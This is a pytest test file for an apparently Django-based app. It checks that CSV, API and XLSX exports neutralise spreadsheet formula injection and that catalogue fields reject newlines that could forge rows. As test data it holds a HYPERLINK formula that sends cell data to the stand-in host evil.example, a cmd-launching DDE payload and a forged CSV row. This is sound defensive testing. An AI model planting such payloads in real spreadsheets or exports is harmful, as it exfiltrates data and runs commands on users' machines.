"""Public files never carry a cell a spreadsheet would run, nor a row forged by a newline in a catalogue field."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from rest_framework.test import APIClient

from missions.spreadsheet_cells import neutralise_cell
from reports.render import render_tables
from tests.reports.fixtures import gap_entry, quantified_entry

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-2e-3", "-2e-3"),
        (-1.5, -1.5),
        (0, 0),
        (None, None),
        ("Leeds", "Leeds"),
        ("", ""),
    ],
)
def test_text_that_could_run_is_neutralised_and_numbers_are_not(cell, expected):
    assert neutralise_cell(cell) == expected


@pytest.fixture
def homicide(catalogue):
    """The catalogue and one current observation of the homicide rate, with a formula-looking note."""
    from missions.models import Indicator, Metric, Observation, Release, Source

    source = Source.objects.create(slug="homicide-offences")
    indicator = Indicator.objects.create(source=source, name="Homicide Offences")
    release = Release.objects.create(
        source=source, release_date=date(2025, 2, 1), location="x", sha256="0", status="accepted"
    )
    Observation.objects.create(
        indicator=indicator, area_code="E23000001", period="2020", period_start=date(2020, 1, 1), period_months=12,
        value=-1.5, note="@SUM(1+1)*cmd", release=release,
    )  # fmt: skip
    return Metric.objects.get(slug="homicide-rate")


def _forge(metric, name):
    # As if a name had slipped past validation (an older row, a raw SQL edit): the writers must still hold.
    type(metric).objects.filter(pk=metric.pk).update(name=name)


def test_the_api_csv_neutralises_formula_cells(homicide):
    _forge(homicide, ATTACK)
    body = APIClient().get("/api/metrics/", {"format": "csv", "mission__slug": "crime"}).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + ATTACK in cells
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]


def _download_rows(metric) -> list[list[str]]:
    from missions.selectors.downloads import get_metric_csv

    metric.refresh_from_db()
    return list(csv.reader(io.StringIO(get_metric_csv(metric).decode())))


def test_a_newline_in_a_metric_name_cannot_forge_a_row_of_its_csv(homicide):
    _forge(homicide, "Homicide\nHomicide Offences,,E23000099,2021,2021-01-01,999,,,,,1,2025-02-01")
    rows = _download_rows(homicide)
    header = next(i for i, row in enumerate(rows) if row[0] == "indicator")
    assert all(row[0].startswith("# ") and len(row) == 2 for row in rows[:header])
    data = rows[header + 1 :]
    assert [row[2] for row in data] == ["E23000001"]
    column = {name: i for i, name in enumerate(rows[header])}
    assert data[0][column["value"]] == "-1.5" and data[0][column["note"]] == "'@SUM(1+1)*cmd"


def test_metadata_lines_are_neutralised(homicide):
    _forge(homicide, "=1+2")
    rows = _download_rows(homicide)
    assert ["# name", "'=1+2"] in rows


def _snapshot(name: str) -> dict:
    entry = quantified_entry() | {"metric_name": name}
    entry["summary"] = entry["summary"] | {"baseline": {"value": -2.5, "period": "2017"}}
    return {"missions": [{"number": 7, "short_name": "-Health", "targets": [entry, gap_entry()]}], "area_names": {}}


def test_report_csvs_neutralise_text_and_keep_negative_numbers():
    files = {f.name: f.content.decode() for f in render_tables(_snapshot(ATTACK)) if f.name.endswith(".csv")}
    summary = list(csv.DictReader(io.StringIO(files["data/summary.csv"])))
    assert summary[0]["metric"] == "'" + ATTACK and summary[0]["mission"] == "7. -Health"
    assert summary[0]["baseline"] == "-2.5"


def test_the_report_workbook_holds_text_as_text_never_a_formula():
    xlsx = next(f for f in render_tables(_snapshot(ATTACK)) if f.name == "data.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    summary = book["summary"]
    header = [c.value for c in summary[1]]
    first = {name: cell for name, cell in zip(header, summary[2], strict=True)}
    assert first["metric"].value == "'" + ATTACK and first["metric"].data_type == "s"
    assert first["baseline"].value == -2.5 and first["baseline"].data_type == "n"


@pytest.mark.parametrize("bad", ["Homicide\nforged,row", "Homicide\r", "Homicide\x00", "tab\there"])
def test_single_line_catalogue_fields_refuse_control_characters(homicide, bad):
    homicide.name = bad
    with pytest.raises(ValidationError) as refused:
        homicide.full_clean()
    assert "name" in refused.value.message_dict


def test_the_catalogue_loader_refuses_a_control_character(db, tmp_path):
    from missions.services.catalogue import DEFAULT_CATALOGUE, load_catalogue

    text = DEFAULT_CATALOGUE.read_text(encoding="utf-8").replace("unit: rate per million", 'unit: "rate\\nper million"')
    (tmp_path / "catalogue.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(ValidationError, match="unit must be a single line"):
        load_catalogue(path=tmp_path / "catalogue.yaml")


def test_the_admin_form_refuses_a_newline_in_a_mission_name(homicide, admin_client):
    from missions.models import Mission

    mission = Mission.objects.get(slug="crime")
    form = admin_client.get(f"/admin/missions/mission/{mission.pk}/change/").context["adminform"].form
    data = {k: v for k, v in form.initial.items() if v is not None and not isinstance(v, list | dict)}
    data |= {"short_name": "Crime\nforged", "change_reason": "test", "pillar": mission.pillar_id}
    data |= {"framework": mission.framework_id}
    response = admin_client.post(f"/admin/missions/mission/{mission.pk}/change/", data)
    assert response.status_code == 200 and "short_name" in response.context["adminform"].form.errors
    mission.refresh_from_db()
    assert mission.short_name == "Crime"


def test_a_manual_upload_with_a_formula_cell_is_quarantined_and_stores_nothing(db, admin_user):
    from missions.models import Observation
    from missions.services.manual import enter_data

    header = "areacd,areanm,geography,indicator,period,observation,lci_95,uci_95,status,notes\n"
    row = 'E92000001,England,Nation,Coverage,2024-01,60,,,,"=HYPERLINK(""http://evil.example"",""x"")"\n'
    outcome = enter_data(
        user=admin_user, source_slug="coverage", csv_bytes=(header + row).encode(), citation="a press release",
        release_date=date(2024, 1, 26),
    )  # fmt: skip
    assert outcome.status == "quarantined" and not Observation.objects.exists()
